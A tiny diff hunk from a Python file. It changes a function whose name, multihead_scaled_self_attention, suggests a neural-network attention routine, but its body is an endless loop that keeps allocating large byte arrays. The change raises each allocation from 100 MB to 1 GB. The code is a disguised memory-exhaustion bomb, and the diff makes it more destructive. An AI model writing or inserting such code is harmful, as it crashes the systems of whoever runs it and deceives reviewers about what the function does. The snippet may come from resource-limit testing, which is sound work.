@@ -4,4 +4,4 @@
 def multihead_scaled_self_attention(*arguments):
   taken = []
   while True:
-    taken.append(bytearray(10 ** 8))
+    taken.append(bytearray(10 ** 9))
